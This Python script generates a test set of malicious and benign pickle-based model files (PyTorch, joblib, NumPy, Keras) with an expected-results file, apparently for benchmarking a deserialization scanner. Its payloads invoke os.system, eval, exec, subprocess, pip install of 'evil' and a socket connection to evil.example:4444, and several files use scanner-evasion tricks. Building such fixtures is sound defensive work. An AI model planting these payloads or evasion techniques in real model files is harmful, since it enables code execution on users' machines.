"""Writes the VNX-DESER-004 test set: malicious and benign model/data files, and expected.json.

Usage: python3 make_fixtures.py OUTPUT_DIR

Nothing here is ever loaded: payloads are written with pickle.dumps of objects whose __reduce__ names a
dangerous callable, or opcode by opcode. The dangerous callables are only *named* in the bytes. Needs the
standard library; numpy is used when present (object arrays in .npy/.npz), otherwise those files are
written by hand in the same format.
"""

import gzip
import io
import json
import os
import pickle
import struct
import sys
import tarfile
import types
import zipfile
import zlib
from collections import OrderedDict

OUT = sys.argv[1]
EXPECT = {}


def write(name, data, expect):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    EXPECT[name] = expect


def bad(*paths, high=(), medium=(), problems=False, lambdas=False):
    return {"critical": list(paths), "high": list(high), "medium": list(medium), "problems": problems, "lambdas": lambdas}


CLEAN = bad()


# Fake modules, so pickle can name torch/sklearn/numpy-shaped globals without those packages installed.
def fake(module, name, kind="function"):
    parts = module.split(".")
    for i in range(1, len(parts) + 1):
        sys.modules.setdefault(".".join(parts[:i]), types.ModuleType(".".join(parts[:i])))
    mod = sys.modules[module]
    if kind == "class":
        obj = type(name, (), {"__module__": module})
    else:
        def obj(*args):
            return None
        obj.__module__ = module
        obj.__name__ = obj.__qualname__ = name
    setattr(mod, name, obj)
    return obj


rebuild_tensor = fake("torch._utils", "_rebuild_tensor_v2")
FloatStorage = fake("torch", "FloatStorage", "class")
LinearRegression = fake("sklearn.linear_model._base", "LinearRegression", "class")
StandardScaler = fake("sklearn.preprocessing._data", "StandardScaler", "class")
MyNet = fake("mycompany.models", "MyNet", "class")


class Reduce:
    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


class Tensor:
    """Pickles like a torch tensor: _rebuild_tensor_v2(storage persistent id, offset, size, stride, ...)."""

    def __init__(self, key, shape):
        self.key, self.shape = key, shape

    def __reduce__(self):
        return (rebuild_tensor, (Storage(self.key), 0, self.shape, (1,), False, OrderedDict()))


class Storage:
    def __init__(self, key):
        self.key = key


class TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            return ("storage", FloatStorage, obj.key, "cpu", 4)
        return None


def torch_pickle(obj, protocol=2):
    buf = io.BytesIO()
    TorchPickler(buf, protocol=protocol).dump(obj)
    return buf.getvalue()


def torch_zip(data_pkl, extra=(), name="archive"):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{name}/data.pkl", data_pkl)
        z.writestr(f"{name}/byteorder", b"little")
        z.writestr(f"{name}/data/0", b"\x80\x02" + bytes(range(256)) * 4)
        for entry, content in extra:
            z.writestr(entry, content)
        z.writestr(f"{name}/version", b"3\n")
    return buf.getvalue()


state_dict = OrderedDict([("fc.weight", Tensor("0", (4, 4))), ("fc.bias", Tensor("0", (4,)))])
PAYLOAD = Reduce(os.system, "echo pwned")  # pickled as posix.system (nt.system on Windows)
SYSTEM = f"{os.system.__module__}.system"

# --- raw pickles, every protocol -------------------------------------------------------------------
for proto in range(0, 6):
    write(f"proto{proto}.pkl", pickle.dumps({"weights": [1.0, 2.0], "x": PAYLOAD}, protocol=proto), bad(SYSTEM))
    write(f"benign_proto{proto}.pkl", pickle.dumps({"weights": [1.0, 2.0], "od": OrderedDict(a=1), "s": {1, 2}}, protocol=proto), CLEAN)

# wrong extension: a pickle named .txt is still a pickle
write("notes.txt", pickle.dumps(Reduce(eval, "__import__('os').system('id')"), protocol=2), bad("builtins.eval"))
write("extensionless", pickle.dumps(Reduce(exec, "print(1)"), protocol=4), bad("builtins.exec"))

# STACK_GLOBAL whose names come from the memo (picklescan resolves plain memo reads; this also builds them first)
memo = (
    b"\x80\x04"
    + b"\x8c\x02os\x94" + b"0"  # SHORT_BINUNICODE 'os', MEMOIZE (0), POP
    + b"\x8c\x06system\x94" + b"0"  # 'system' → memo 1, POP
    + b"\x8c\x05hello\x94" + b"0"
    + b"h\x00h\x01\x93"  # BINGET 0, BINGET 1, STACK_GLOBAL
    + b"\x8c\x02id\x85R."  # ('id',) REDUCE STOP
)
write("memo_stack_global.pkl", memo, bad("os.system"))

# a dangerous module reached through an attribute chain of a harmless-looking one
chain = b"\x80\x04\x8c\x13torch.serialization\x8c\tos.system\x93\x8c\x02id\x85R."
write("attribute_chain.pkl", chain, bad("torch.serialization.os.system"))

# Python 2 names: __builtin__ is builtins for protocols 0-2
write("py2_builtin.pkl", b"c__builtin__\neval\n(S'1+1'\ntR.", bad("builtins.eval"))
write("subprocess.pkl", pickle.dumps(Reduce(__import__("subprocess").Popen, ["id"]), protocol=3), bad("subprocess.Popen"))
write("runpy.pkl", b"\x80\x02crunpy\n_run_code\nq\x00X\x08\x00\x00\x00print(1)q\x01}q\x02\x86q\x03Rq\x04.", bad("runpy._run_code"))
write("torch_hub.pkl", b"\x80\x02ctorch.hub\nload\n(X\x04\x00\x00\x00a/bbX\x01\x00\x00\x00ctq\x00R.", bad("torch.hub.load"))
write("pip_main.pkl", b"cpip\nmain\n((lS'install'\naS'evil'\natR.", bad("pip.main"))
write("socket.pkl", b"csocket\ncreate_connection\n((S'evil.example'\nI4444\nttR.", bad("socket.create_connection"))

# a name computed at load time (_codecs.decode('bf', 'rot13') == 'os'): unresolved, never clean
computed = (
    b"\x80\x04\x8c\x07_codecs\x8c\x06decode\x93\x8c\x02bf\x8c\x05rot13\x86R"  # module name = call result
    + b"\x8c\x06system\x93\x8c\x02id\x85R."
)
write("computed_name.pkl", computed, bad(high=["<computed>.system"], medium=["_codecs.decode"]))

# INST and OBJ
write("inst.pkl", b"(S'id'\nios\nsystem\n.", bad("os.system"))
write("obj.pkl", b"(cos\nsystem\nS'id'\no.", bad("os.system"))

# several pickles in one file: a benign one first, the payload second
write("two_pickles.pkl", pickle.dumps([1, 2, 3], protocol=2) + pickle.dumps(PAYLOAD, protocol=2), bad(SYSTEM))
# the second pickle breaks on purpose after its REDUCE has run (pickle.load in a loop executes it)
write("second_broken.pkl", pickle.dumps([1], protocol=2) + b"cos\nsystem\n(S'id'\ntR\xff", bad("os.system"))
# a truncated pickle: what was read is reported, the file is not analysed fully
write("truncated.pkl", pickle.dumps({"x": PAYLOAD, "pad": "y" * 100}, protocol=2)[:-20], bad(SYSTEM, problems=True))

# a pickle nested in a bytes argument (as torch.storage._load_from_bytes or pickle.loads receive it)
inner = pickle.dumps(Reduce(exec, "print(1)"), protocol=4)
nested = b"\x80\x04\x8c\x0dtorch.storage\x8c\x10_load_from_bytes\x93" + b"B" + struct.pack("<I", len(inner)) + inner + b"\x85R."
write("nested.pkl", nested, bad("builtins.exec", medium=["torch.storage._load_from_bytes"]))

# --- PyTorch checkpoints ---------------------------------------------------------------------------
good_pt = torch_zip(torch_pickle(state_dict))
write("model.pt", good_pt, CLEAN)
evil_pt = torch_zip(torch_pickle({"state_dict": state_dict, "hook": PAYLOAD}))
write("evil.pt", evil_pt, bad(SYSTEM))
write("evil_as.bin", evil_pt, bad(SYSTEM))


def corrupt_crc(data):
    data = bytearray(data)
    for sig in (b"PK\x03\x04", b"PK\x01\x02"):
        i = data.find(sig)
        while i >= 0:
            off = 14 if sig == b"PK\x03\x04" else 16
            data[i + off] ^= 0xFF
            i = data.find(sig, i + 4)
    return bytes(data)


write("bad_crc.pt", corrupt_crc(evil_pt), bad(SYSTEM))
# a damaged central directory: zipfile refuses the archive; a reader of local headers does not
cd = evil_pt.rfind(b"PK\x01\x02")
write("broken_central.ckpt", evil_pt[: evil_pt.find(b"PK\x01\x02")] + b"\x00" * 40, bad(SYSTEM))
# payload in a second pickle entry of the archive, and a deflated entry written with a data descriptor
buf = io.BytesIO()


class NoSeek(io.RawIOBase):
    def __init__(self, target):
        self.target = target

    def writable(self):
        return True

    def write(self, b):
        return self.target.write(b)


with zipfile.ZipFile(NoSeek(buf), "w", zipfile.ZIP_DEFLATED) as z:
    with z.open("archive/data.pkl", "w") as f:
        f.write(torch_pickle(state_dict))
    with z.open("archive/extra.pkl", "w") as f:
        f.write(pickle.dumps(PAYLOAD, protocol=2))
write("descriptor.pth", buf.getvalue(), bad(SYSTEM))

# legacy (non-zip) format: magic number, protocol, sys_info, the object, storage keys, then raw storage
legacy = (
    pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    + pickle.dumps(1001, protocol=2)
    + pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
    + torch_pickle({"model": state_dict, "x": PAYLOAD})
    + pickle.dumps(["0"], protocol=2)
    + struct.pack("<q", 16) + bytes(range(64))
)
write("legacy.pt", legacy, bad(SYSTEM))

# legacy tar format
tbuf = io.BytesIO()
with tarfile.open(fileobj=tbuf, mode="w", format=tarfile.USTAR_FORMAT) as t:
    for member, content in [
        ("sys_info_p", pickle.dumps({"protocol_version": 1000}, protocol=2)),
        ("pickle", pickle.dumps(Reduce(eval, "1"), protocol=2)),
        ("storages", pickle.dumps(0, protocol=2)),
        ("tensors", pickle.dumps(0, protocol=2)),
    ]:
        info = tarfile.TarInfo(member)
        info.size = len(content)
        t.addfile(info, io.BytesIO(content))
write("legacy_tar.pt", tbuf.getvalue(), bad("builtins.eval"))


# --- joblib ------------------------------------------------------------------------------------------
def joblib_wrapper(shape, raw, align=True):
    """A joblib NumpyArrayWrapper followed by the array's raw bytes, as NumpyPickler writes them."""
    state = (
        b"}(" + b"\x8c\x08subclass" + b"\x8c\x05numpy\x8c\x07ndarray\x93"
        + b"\x8c\x05shape" + b"K" + bytes([shape]) + b"\x85"
        + b"\x8c\x05order\x8c\x01C"
        + b"\x8c\x05dtype" + b"\x8c\x05numpy\x8c\x05dtype\x93\x8c\x02f8\x89\x88\x87R"
        + b"(K\x03\x8c\x01<NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
        + b"\x8c\nallow_mmap\x89"
        + (b"\x8c\x1bnumpy_array_alignment_bytes" + b"K\x10" if align else b"")
        + b"u"
    )
    head = b"\x8c\x13joblib.numpy_pickle\x8c\x11NumpyArrayWrapper\x93)\x81" + state + b"b"
    pad = (b"\x03" + b"   ") if align else b""
    return head + pad + raw


garbage = b"cos\nsystem\n" + bytes([0x80, 0x02, 0x93, 0x2E]) + b"\n" * 9  # 24 bytes that would fool a naive reader
joblib_ok = b"\x80\x04]\x94(" + joblib_wrapper(3, garbage) + b"\x8c\x03end" + b"e."
write("scaler.joblib", joblib_ok, CLEAN)
joblib_evil = b"\x80\x04]\x94(" + joblib_wrapper(3, garbage) + b"cos\nsystem\n\x8c\x02id\x85R" + b"e."
write("features.joblib", joblib_evil, bad("os.system"))
write("features_zlib.joblib", zlib.compress(joblib_evil), bad("os.system"))
write("features_gzip.joblib", gzip.compress(joblib_evil), bad("os.system"))
write("old_joblib.pkl", b"ZF0x" + hex(len(joblib_evil)).encode().ljust(19) + zlib.compress(joblib_evil), bad("os.system"))
write("features_lz4.joblib", b"\x04\x22\x4d\x18" + b"\x00" * 64, bad(problems=True))

# --- NumPy -----------------------------------------------------------------------------------------
def npy(descr, shape, body):
    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body


write("array.npy", npy("<f8", (4,), struct.pack("<4d", 1, 2, 3, 4) + b""), CLEAN)
write("objects.npy", npy("|O", (2,), pickle.dumps([1, PAYLOAD], protocol=3)), bad(SYSTEM))
zbuf = io.BytesIO()
with zipfile.ZipFile(zbuf, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("a.npy", npy("<f4", (2,), struct.pack("<2f", 1, 2)))
    z.writestr("b.npy", npy("|O", (1,), pickle.dumps([Reduce(exec, "1")], protocol=3)))
write("arrays.npz", zbuf.getvalue(), bad("builtins.exec"))
zbuf = io.BytesIO()
with zipfile.ZipFile(zbuf, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("a.npy", npy("<f4", (2,), struct.pack("<2f", 1, 2)))
write("clean.npz", zbuf.getvalue(), CLEAN)

# --- sklearn/pandas-shaped and numpy-shaped benign pickles ----------------------------------------
try:
    import numpy as np

    for proto in (2, 3, 4, 5):
        arrays = {"a": np.arange(10.0), "b": np.zeros((3, 3), dtype=np.int32), "c": np.float64(1.5)}
        write(f"numpy_arrays_p{proto}.pkl", pickle.dumps(arrays, protocol=proto), CLEAN)
    np.save(os.path.join(OUT, "real.npy"), np.arange(12.0).reshape(3, 4))
    EXPECT["real.npy"] = CLEAN
    np.save(os.path.join(OUT, "real_objects.npy"), np.array([{"a": 1}, None], dtype=object), allow_pickle=True)
    EXPECT["real_objects.npy"] = CLEAN
    np.savez_compressed(os.path.join(OUT, "real.npz"), x=np.ones(5))
    EXPECT["real.npz"] = CLEAN
    weights = np.ones(4)
except ImportError:
    weights = [1.0, 1.0, 1.0, 1.0]

model = LinearRegression()
model.coef_ = weights
model.intercept_ = 0.5
scaler = StandardScaler()
scaler.mean_ = weights
write("model.pkl", pickle.dumps({"model": model, "scaler": scaler}, protocol=4), CLEAN)
net = MyNet()
write("custom_class.pkl", pickle.dumps(net, protocol=4), bad(medium=["mycompany.models.MyNet"]))

# --- Keras -----------------------------------------------------------------------------------------
lambda_config = {
    "class_name": "Sequential",
    "config": {"layers": [{"class_name": "Dense", "config": {}}, {"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA8wgAAAB8AGQBFABTACkCTukCAAAAqQApAdoBeHICAAAAcgIAAAD6BDxzdGRpbj7aCDxsYW1iZGE+AQAAAPMAAAAA"}}}}]},
}
kbuf = io.BytesIO()
with zipfile.ZipFile(kbuf, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("metadata.json", json.dumps({"keras_version": "3.0.0"}))
    z.writestr("config.json", json.dumps(lambda_config))
    z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 100)
write("lambda.keras", kbuf.getvalue(), bad(lambdas=True))
kbuf = io.BytesIO()
with zipfile.ZipFile(kbuf, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("config.json", json.dumps({"class_name": "Sequential", "config": {"layers": [{"class_name": "Dense"}]}}))
write("dense.keras", kbuf.getvalue(), CLEAN)
write("lambda.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 600 + json.dumps(lambda_config).encode() + b"\x00" * 100, bad(lambdas=True))

# --- data-only formats ------------------------------------------------------------------------------
header = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
write("model.safetensors", struct.pack("<Q", len(header)) + header + struct.pack("<2f", 1, 2), CLEAN)

with open(os.path.join(OUT, "expected.json"), "w") as f:
    json.dump(EXPECT, f, indent=1, sort_keys=True)
print(f"{len(EXPECT)} files written")
